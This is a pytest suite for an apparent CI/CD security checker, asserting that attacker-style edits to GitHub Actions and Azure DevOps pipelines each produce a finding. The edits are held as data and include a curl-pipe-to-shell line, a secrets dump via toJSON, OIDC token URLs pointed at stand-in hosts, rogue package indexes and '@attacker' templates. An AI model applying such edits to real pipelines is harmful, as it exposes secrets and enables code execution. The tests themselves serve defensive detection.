"""`blueprint check`'s CI/CD rules (mlops_blueprint.ci_rules): a fresh project passes, and each
edit an attacker with write access to the repository would try is a finding naming the file.
The edits are kept as cases: each must keep failing."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from template_cases import COMBINATIONS
from typer.testing import CliRunner

from mlops_blueprint.ci_rules import check_ci
from mlops_blueprint.cli import app

DEPLOY_PROD_IF = "if: github.event_name != 'pull_request' && github.ref == 'refs/heads/main'"
CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"


def findings_for(project: Path) -> list[tuple[str, str]]:
    answers = yaml.safe_load((project / ".copier-answers.yml").read_text())
    return check_ci(project, answers["project_slug"], answers["ci_provider"],
                    answers["platform_team"])


def edited(source: Path, tmp_path: Path, file: str, old: str, new: str, *, last=False) -> Path:
    project = Path(shutil.copytree(source, tmp_path / "project"))
    path = project / file
    text = path.read_text()
    assert old in text, f"{file}: {old!r} not found"
    if last:
        head, _, tail = text.rpartition(old)
        path.write_text(head + new + tail)
    else:
        path.write_text(text.replace(old, new, 1))
    return project


@pytest.mark.parametrize("case", list(COMBINATIONS))
def test_a_fresh_project_passes(rendered_project, case):
    assert findings_for(rendered_project(**COMBINATIONS[case])) == []


GITHUB_EDITS = {
    # prod's deployment no longer restricted to main
    "deploy prod from any branch": (
        ".github/workflows/infra.yml", DEPLOY_PROD_IF, "if: github.event_name != 'pull_request'",
        "not restricted to main"),
    # pull_request_target runs with main's ref: main-only conditions hold for a fork's PR
    "main check bypassed with ||": (
        ".github/workflows/infra.yml", DEPLOY_PROD_IF,
        DEPLOY_PROD_IF + " || github.event_name == 'pull_request'", "not restricted to main"),
    "main check negated": (
        ".github/workflows/infra.yml", DEPLOY_PROD_IF,
        "if: ${{ !(github.ref == 'refs/heads/main') }}", "not restricted to main"),
    "pull_request_target trigger": (
        ".github/workflows/model.yml", "  workflow_dispatch:\n",
        "  workflow_dispatch:\n  pull_request_target:\n", "pull_request_target"),
    # a PR preview of prod with the preview identity
    "cloud preview of prod": (
        ".github/workflows/infra.yml", "      environment: dev\n", "      environment: prod\n",
        "previews prod stack"),
    "action pinned by tag": (".github/workflows/ci.yml", CHECKOUT, "actions/checkout@v7",
                             "not pinned by a full commit SHA"),
    "checkout keeps the token": (
        ".github/workflows/pulumi-up.yml", "persist-credentials: false",
        "persist-credentials: true", "persist-credentials: false"),
    # the release job signs in as the deploy identity but no longer binds its environment
    "deploy identity without its environment": (
        ".github/workflows/model-release.yml", "    environment: ${{ inputs.environment }}\n", "",
        "without binding its environment"),
    "a secret": (".github/workflows/pulumi-up.yml", "client-id: ${{ vars.AZURE_CLIENT_ID }}",
                 "creds: ${{ secrets.AZURE_CREDENTIALS }}", "uses a secret"),
    "Pulumi CLI unpinned": (".github/workflows/pulumi-up.yml",
                            "          pulumi-version: 3.255.0\n", "", "pulumi-version"),
    "extra index": (".github/workflows/ci.yml", 'python -m pip install -r "$RUNNER_TEMP/',
                    "python -m pip install --extra-index-url https://pypi.example"
                    ' -r "$RUNNER_TEMP/',
                    "extra package index"),
    "blueprint from an index": (".cloud/infra/requirements.txt", "mlops-blueprint @ git+",
                                "mlops-blueprint==0.1.0\n# was: mlops-blueprint @ git+",
                                "can be replaced from a package index"),
    "write-all": (".github/workflows/ci.yml", "permissions: {}", "permissions: write-all",
                  "write-all"),
    "not YAML": (".github/workflows/infra.yml", "jobs:", "jobs: [", "not readable YAML"),
    # a later CODEOWNERS rule wins: the workflows would no longer need the platform team
    "CODEOWNERS override": (".github/CODEOWNERS", "/.github/CODEOWNERS @my-org/platform-team",
                            "/.github/CODEOWNERS @my-org/platform-team\n/.github/workflows/ "
                            "@my-org/data-science", "not @my-org/platform-team alone"),
    # GitHub evaluates `a == b == false` as `(a == b) == false`: true off main
    "main check compared with false": (
        ".github/workflows/infra.yml", DEPLOY_PROD_IF, DEPLOY_PROD_IF + " == false",
        "not restricted to main"),
    "main check compared with true by !=": (
        ".github/workflows/infra.yml", DEPLOY_PROD_IF, DEPLOY_PROD_IF + " != true",
        "not restricted to main"),
    # a reusable workflow that is also triggered on its own was skipped as "judged by callers"
    "reusable workflow also run on push": (
        ".github/workflows/pulumi-up.yml", "on:\n  workflow_call:\n",
        "on:\n  push:\n  workflow_call:\n", "not restricted to main"),
    "package index from an environment variable": (
        ".github/workflows/pulumi-up.yml", '      ARM_USE_OIDC: "true"\n',
        '      ARM_USE_OIDC: "true"\n      PIP_INDEX_URL: https://pypi.example/simple\n',
        "chooses where pip installs from"),
    "pip index option": (".github/workflows/ci.yml", 'python -m pip install -r "$RUNNER_TEMP/',
                         'python -m pip install -i https://pypi.example/simple -r "$RUNNER_TEMP/',
                         "chooses where pip installs from"),
    "every secret through toJSON": (
        ".github/workflows/pulumi-up.yml", '      ARM_USE_OIDC: "true"\n',
        '      ARM_USE_OIDC: "true"\n      ALL: ${{ toJSON(secrets) }}\n', "uses a secret"),
    "checkout spelled in capitals keeps the token": (
        ".github/workflows/pulumi-up.yml",
        f"      - uses: {CHECKOUT}\n        with:\n          persist-credentials: false\n",
        f"      - uses: {CHECKOUT.replace('actions/checkout', 'Actions/Checkout')}\n",
        "persist-credentials: false"),
    "stack config from pulumi/actions config-map": (
        ".github/workflows/pulumi-up.yml", "          command: up\n",
        "          command: up\n          config-map: '{\"customer-churn:publicNetworkAccess\": "
        "{\"value\": \"Enabled\"}}'\n", "config-map"),
    "stack config set by a run step": (
        ".github/workflows/pulumi-up.yml", "      - name: pulumi up\n",
        "      - run: pulumi config set customer-churn:kind dev --stack prod\n"
        "      - name: pulumi up\n", "sets stack config outside the stack files"),
    "CODEOWNERS hands the custom-program declaration over": (
        ".github/CODEOWNERS", "/.github/CODEOWNERS @my-org/platform-team",
        "/.github/CODEOWNERS @my-org/platform-team\n/.cloud/infra/custom-program.yaml "
        "@my-org/data-science", "custom-program.yaml is owned by @my-org/data-science"),
    "CODEOWNERS hands the bootstrap over": (
        ".github/CODEOWNERS", "/.github/CODEOWNERS @my-org/platform-team",
        "/.github/CODEOWNERS @my-org/platform-team\n/.cloud/infra/bootstrap/ "
        "@my-org/data-science", "bootstrap/Pulumi.platform.yaml is owned by"),
    # the provider asks for (or sends) the OIDC token where these point
    "provider metadata host from the environment": (
        ".github/workflows/pulumi-up.yml", '      ARM_USE_OIDC: "true"\n',
        '      ARM_USE_OIDC: "true"\n      ARM_METADATA_HOSTNAME: arm.example\n',
        "ARM_METADATA_HOSTNAME"),
    "OIDC request URL from the environment": (
        ".github/workflows/pulumi-up.yml", '      ARM_USE_OIDC: "true"\n',
        '      ARM_USE_OIDC: "true"\n      ARM_OIDC_REQUEST_URL: https://tokens.example\n',
        "ARM_OIDC_REQUEST_URL"),
    # issue_comment runs main's workflow with main's ref, for a comment anyone can write
    "deployment on an issue comment": (
        ".github/workflows/infra.yml", "  workflow_dispatch:\n",
        "  workflow_dispatch:\n  issue_comment:\n    types: [created]\n", "issue_comment"),
    # a pull request's code left on a runner the prod deployment later uses
    "pull request job on a self-hosted runner": (
        ".github/workflows/infra.yml",
        "    name: policy check and plan (offline)\n    runs-on: ubuntu-latest",
        "    name: policy check and plan (offline)\n    runs-on: [self-hosted, linux]",
        "self-hosted runner"),
    "pull request title pasted into a script": (
        ".github/workflows/infra.yml", "        run: |\n          printf '%s\\n' \"$PLAN\"",
        "        run: |\n          echo \"${{ github.event.pull_request.title }}\"\n"
        "          printf '%s\\n' \"$PLAN\"", "script injection"),
    "CODEOWNERS without the answers": (
        ".github/CODEOWNERS", "/.copier-answers.yml @my-org/platform-team\n", "",
        ".copier-answers.yml is owned by nobody"),
    "CODEOWNERS catch-all": (".github/CODEOWNERS", "/.github/CODEOWNERS @my-org/platform-team",
                             "/.github/CODEOWNERS @my-org/platform-team\n* @my-org/everyone",
                             "owned by @my-org/everyone"),
}


@pytest.mark.parametrize("edit", list(GITHUB_EDITS))
def test_github_edits_are_findings(rendered_project, tmp_path, edit):
    file, old, new, says = GITHUB_EDITS[edit]
    project = edited(rendered_project(**COMBINATIONS["github-3env-aks"]), tmp_path, file, old,
                     new, last=edit in ("deploy prod from any branch", "blueprint from an index",
                                   "main check bypassed with ||", "main check negated",
                                   "main check compared with false",
                                   "main check compared with true by !="))
    found = findings_for(project)
    assert found, edit
    assert any(says in message for _, message in found), found
    assert all(where.startswith((".github", ".cloud/infra")) for where, _ in found)


def test_a_composite_action_pins_what_it_uses(rendered_project, tmp_path):
    """A step that runs a local composite action runs the actions that file names: unpinned
    ones there are findings too."""
    project = edited(rendered_project(**COMBINATIONS["github-3env-aks"]), tmp_path,
                     ".github/workflows/pulumi-up.yml", "      - name: pulumi up\n",
                     "      - uses: ./.github/actions/setup\n      - name: pulumi up\n")
    action = project / ".github" / "actions" / "setup" / "action.yml"
    action.parent.mkdir(parents=True)
    action.write_text("name: setup\nruns:\n  using: composite\n  steps:\n"
                      "    - uses: someone/setup-tools@v1\n")
    assert (".github/actions/setup/action.yml",
            "`someone/setup-tools@v1` is not pinned by a full commit SHA") in findings_for(project)


ADO_PROD_STAGE = """
  - stage: sneaky
    condition: and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'),
      eq(variables['Build.SourceBranch'], 'refs/heads/main'))
    jobs:
      - job: plain
        steps:
          - task: AzureCLI@2
            inputs:
              azureSubscription: customer-churn-prod
              scriptType: bash
              scriptLocation: inlineScript
              inlineScript: az group list
"""
ADO_EDITS = {
    "preview with the prod connection": (
        ".ado/templates/pulumi-preview.yml", "azureSubscription: customer-churn-preview",
        "azureSubscription: customer-churn-prod", "not restrict it to main"),
    "deploy stage without the main condition": (
        ".ado/templates/pulumi-up.yml",
        "condition: and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'), "
        "eq(variables['Build.SourceBranch'], 'refs/heads/main'))", "condition: succeeded()",
        "not restrict it to main"),
    "deploy condition bypassed with or()": (
        ".ado/templates/pulumi-up.yml",
        "condition: and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'), "
        "eq(variables['Build.SourceBranch'], 'refs/heads/main'))",
        "condition: or(ne(variables['Build.Reason'], 'PullRequest'), "
        "eq(variables['Build.SourceBranch'], 'refs/heads/main'))",
        "not restrict it to main"),
    "plain job with the prod connection": (
        ".ado/infra.yml", "\n  - template: templates/pulumi-preview.yml",
        ADO_PROD_STAGE + "\n  - template: templates/pulumi-preview.yml",
        "outside a deployment job"),
    "cloud preview of prod": (
        ".ado/infra.yml", "      environment: dev\n", "      environment: prod\n",
        "is not one of"),
    "provider environment in a script": (
        ".ado/templates/pulumi-up.yml", "export ARM_USE_OIDC=true",
        "export ARM_ENVIRONMENT=usgovernment ARM_USE_OIDC=true", "ARM_ENVIRONMENT"),
    "curl | sh": (".ado/templates/install-pulumi.yml", "echo \"${expected}  ${archive}\"",
                  "curl -fsSL https://get.pulumi.com | sh\n      echo \"${expected}  ${archive}\"",
                  "piped into a shell"),
    "checkout keeps credentials": (".ado/ci.yml", 'persistCredentials: "false"',
                                   'persistCredentials: "true"', "persistCredentials"),
    # service connection names compare case-insensitively; an expression hides which one
    "prod connection in capitals in a plain job": (
        ".ado/infra.yml", "\n  - template: templates/pulumi-preview.yml",
        ADO_PROD_STAGE.replace("customer-churn-prod", "CUSTOMER-CHURN-PROD")
        + "\n  - template: templates/pulumi-preview.yml", "outside a deployment job"),
    "connection named by a variable": (
        ".ado/infra.yml", "\n  - template: templates/pulumi-preview.yml",
        ADO_PROD_STAGE.replace("azureSubscription: customer-churn-prod",
                               "azureSubscription: $(connection)")
        + "\n  - template: templates/pulumi-preview.yml", "named by an expression"),
    "connection named by a template expression": (
        ".ado/infra.yml", "\n  - template: templates/pulumi-preview.yml",
        ADO_PROD_STAGE.replace("azureSubscription: customer-churn-prod",
                               "azureSubscription: ${{ variables.connection }}")
        + "\n  - template: templates/pulumi-preview.yml", "named by an expression"),
    "a template from another repository": (
        ".ado/infra.yml", "\n  - template: templates/pulumi-preview.yml",
        "\n  - template: stages.yml@attacker\n  - template: templates/pulumi-preview.yml",
        "stages.yml@attacker"),
    "extends a template from another repository": (
        ".ado/ci.yml", "\ntrigger:", "\nextends:\n  template: pipeline.yml@attacker\ntrigger:",
        "another repository"),
    "preview connection selects prod with -s": (
        ".ado/templates/pulumi-preview.yml",
        "pulumi preview --stack ${{ parameters.environment }}", "pulumi preview -s prod",
        "touches prod stack"),
    "preview connection selects prod with stack select": (
        ".ado/templates/pulumi-preview.yml",
        "pulumi preview --stack ${{ parameters.environment }}",
        "pulumi stack select prod && pulumi preview", "touches prod stack"),
    "preview connection logs in to prod's state": (
        ".ado/templates/pulumi-preview.yml", "pulumi-state-${{ parameters.environment }}",
        "pulumi-state-prod", "touches prod stack"),
}


@pytest.mark.parametrize("edit", list(ADO_EDITS))
def test_azure_devops_edits_are_findings(rendered_project, tmp_path, edit):
    file, old, new, says = ADO_EDITS[edit]
    project = edited(rendered_project(**COMBINATIONS["ado-3env"]), tmp_path, file, old, new)
    found = findings_for(project)
    assert any(says in message for _, message in found), found


def test_blueprint_check_fails_on_a_ci_finding(rendered_project, tmp_path):
    """Wired into `blueprint check`: exit 1, the finding on its own line naming the file."""
    file, old, new, says = GITHUB_EDITS["deploy prod from any branch"]
    project = edited(rendered_project(**COMBINATIONS["github-2env"]), tmp_path, file, old, new,
                     last=True)
    result = CliRunner().invoke(app, ["check", str(project)])
    assert result.exit_code == 1, result.stdout
    lines = [line.strip() for line in result.stdout.splitlines()]
    assert any(line.startswith(f"{file}: deploy-prod: ") and says in line for line in lines)
